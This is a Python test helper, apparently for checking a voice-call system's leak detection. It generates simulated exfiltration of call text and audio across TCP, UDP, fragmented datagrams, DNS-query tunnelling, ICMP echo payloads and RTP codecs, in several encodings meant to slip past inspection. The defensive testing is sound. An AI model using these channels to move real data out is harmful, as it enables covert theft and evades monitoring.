"""Leaks that are really sent: what a compromised node could write of a call, in many ways."""

from __future__ import annotations

import base64
import contextlib
import gzip
import itertools
import json
import socket
import struct
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from typing import Literal, assert_never

import numpy as np
import soxr

from edge.media.frames import FRAME_MS, Samples, frame_samples
from edge.media.g711 import alaw_encode, ulaw_encode
from edge.media.g722 import G722Encoder
from edge.media.opus import OpusEncoder
from edge.transport.rtp import packet as rtp
from tests.system.machine.namespaces import Namespace

FIRST_PORT = 9_100
"""Of the sinks: one port for each leak, so that a finding tells which one it is."""
SECONDS = 10.0
"""What sending one may take."""
FRAGMENTED = 3_000
"""Bytes of a datagram that takes three packets of Ethernet."""
EDGE_OF_FRAGMENT = 1_480 - 8
"""Bytes of a datagram's payload in its first fragment, with an MTU of 1500."""


@dataclass(frozen=True, slots=True)
class Leak:
    """One leak. ``what`` a search must say that it found, ``written`` something of how."""

    name: str
    transport: Literal["tcp", "udp", "icmp"]
    pieces: tuple[bytes, ...]
    """Written one by one: segments, or datagrams."""
    what: str
    written: str


def leaks(said: Mapping[str, str], caller: Samples, agent: Samples, rate: int) -> list[Leak]:
    """One of each kind: of the words that ``said`` has by what they are, and of both voices."""
    return [*_texts(said), *_sounds(caller, agent, rate)]


def _texts(said: Mapping[str, str]) -> Iterator[Leak]:
    what, text = "typed word", said["typed word"]
    raw = text.encode()
    ways: Mapping[str, tuple[bytes, str]] = {
        "raw text": (raw, "utf-8"),
        "hexadecimal": (raw.hex().encode(), "utf-8 hex"),
        "base64": (base64.b64encode(b"x" + raw + b"y"), "utf-8 base64"),
        "UTF-16": (text.encode("utf-16"), "utf-16-le"),
        "UTF-16 in base64": (base64.b64encode(text.encode("utf-16-be")), "utf-16-be base64"),
        "percent": ("".join(f"%{byte:02X}" for byte in raw).encode(), "percent"),
        "JSON escapes": ("".join(f"\\u{ord(c):04x}" for c in text).encode(), "json escapes"),
        "gzip": (gzip.compress(json.dumps({"name": text}).encode()), "utf-8, compressed"),
    }
    for name, (data, written) in ways.items():
        yield Leak(name, "tcp", (b'{"a":1}' + data + b"\n",), what, written)
    half = len(raw) // 2
    yield Leak("two segments", "tcp", (b"..." + raw[:half], raw[half:] + b"..."), what, "utf-8")
    chunks = b"%x\r\n%b\r\n%x\r\n%b\r\n0\r\n\r\n" % (half, raw[:half], len(raw) - half, raw[half:])
    head = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield Leak("two chunks", "tcp", (head + chunks,), what, "utf-8, chunked")
    yield Leak("a datagram", "udp", (b"\0" + raw,), what, "utf-8")
    yield Leak("two datagrams", "udp", (raw[:half], raw[half:]), what, "utf-8")
    across = (b"." * (EDGE_OF_FRAGMENT - half) + raw).ljust(FRAGMENTED, b".")
    yield Leak("two fragments", "udp", (across,), what, "utf-8")
    label = said["typed code"].encode().hex().encode()
    query = b"\0\1\1\0\0\1" + bytes(6) + bytes([len(label)]) + label + b"\3org\0\0\1\0\1"
    yield Leak("a name that is looked up", "udp", (query,), "typed code", "utf-8 hex")
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + said["tool's result"].encode()
    yield Leak("a ping", "icmp", (echo,), "tool's result", "utf-8")


def _sounds(caller: Samples, agent: Samples, rate: int) -> Iterator[Leak]:
    def of(sound: Samples, wanted: int) -> Samples:
        at = np.asarray(soxr.resample(sound, rate, wanted), np.int16)
        return at[: len(at) // frame_samples(wanted) * frame_samples(wanted)]

    for wanted in (8_000, 16_000, 48_000):
        pcm = of(caller, wanted).astype("<i2").tobytes()
        name = f"PCM of {wanted // 1000} kHz"
        yield Leak(name, "tcp", (b"RIFF", pcm), "voice of caller", "s16le")
    codes = ulaw_encode(of(agent, 8_000))
    yield Leak("PCMU in base64", "tcp", (base64.b64encode(codes),), "voice of agent", "base64")
    words = of(agent, 8_000).astype(">i2").tobytes().hex().encode()
    yield Leak(
        "PCM in hexadecimal", "tcp", (words,), "voice of agent", "s16be 8000 Hz, hexadecimal"
    )
    yield Leak("PCMA", "tcp", (alaw_encode(of(agent, 8_000)),), "voice of agent", "PCMA")
    narrow, wide, full = of(caller, 8_000), of(agent, 16_000), of(caller, 48_000)
    g722, opus = G722Encoder(), OpusEncoder(48_000)
    codecs: Mapping[str, tuple[int, Samples, int, Callable[[Samples], bytes]]] = {
        "PCMU": (0, narrow, 8_000, ulaw_encode),
        "PCMA": (8, narrow, 8_000, alaw_encode),
        "G722": (9, wide, 16_000, g722.encode),
        "Opus": (111, full, 48_000, opus.encode),
    }
    for name, (kind, sound, wanted, encode) in codecs.items():
        clock = 48_000 if name == "Opus" else 8_000
        packets = tuple(_rtp(kind, clock, sound, frame_samples(wanted), encode))
        whose = "agent" if name == "G722" else "caller"
        yield Leak(f"{name} in RTP", "udp", packets, f"voice of {whose}", f"{name} in RTP")
    opus.close()


def _rtp(
    kind: int, clock: int, sound: Samples, frame: int, encode: Callable[[Samples], bytes]
) -> Iterator[bytes]:
    for index in range(len(sound) // frame):
        payload = encode(sound[index * frame : (index + 1) * frame])
        timestamp = 0xFFFFFF00 + index * clock * FRAME_MS // 1000 & 0xFFFFFFFF
        yield rtp.pack(kind, index + 65_500 & 0xFFFF, timestamp, 7, payload, marker=False)


# --- sending: each in the namespace that its thread is in ----------------------------------------


@contextmanager
def sinks(namespace: Namespace, host: str, leaks: Sequence[Leak]) -> Iterator[None]:
    """Somebody in ``namespace`` takes every leak."""
    opened = namespace.call(lambda: [_sink(host, port, leak) for port, leak in _ports(leaks)])
    with ExitStack() as closing:
        for one in opened:
            closing.callback(one.close)
            if one.type == socket.SOCK_STREAM:
                reader = threading.Thread(target=_swallow, args=(one,), daemon=True)
                reader.start()
                closing.callback(reader.join)
                closing.callback(one.shutdown, socket.SHUT_RDWR)  # wakes who accepts
        yield


def send(host: str, leaks: Sequence[Leak]) -> list[str]:
    """Send each to its sink; returns the names of those that something in between refused."""
    refused = []
    for port, leak in _ports(leaks):
        try:
            _send(host, port, leak)
        except OSError:
            refused.append(leak.name)
    return refused


def port_of(leaks: Sequence[Leak], name: str) -> int:
    """The port that the leak of this name goes to; 0 where there are no ports."""
    port, leak = next(one for one in _ports(leaks) if one[1].name == name)
    return 0 if leak.transport == "icmp" else port


def _ports(leaks: Sequence[Leak]) -> Iterator[tuple[int, Leak]]:
    return zip(itertools.count(FIRST_PORT), leaks, strict=False)


def _sink(host: str, port: int, leak: Leak) -> socket.socket:
    if leak.transport == "tcp":
        return socket.create_server((host, port))
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind((host, port))
    return one


def _swallow(server: socket.socket) -> None:
    """Read one connection to its end, and then end it: the sender waits for that."""
    # An error: it was shut down, and nobody had come.
    with contextlib.suppress(OSError), server.accept()[0] as stream:
        while stream.recv(1 << 16):
            pass


def _send(host: str, port: int, leak: Leak) -> None:
    match leak.transport:
        case "tcp":
            with socket.create_connection((host, port), timeout=SECONDS) as stream:
                stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for piece in leak.pieces:
                    stream.sendall(piece)
                stream.shutdown(socket.SHUT_WR)
                stream.recv(1)
        case "udp":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                for piece in leak.pieces:
                    one.sendto(piece, (host, port))
        case "icmp":
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
                for piece in leak.pieces:
                    raw.sendto(piece, (host, 0))
        case _:
            assert_never(leak.transport)
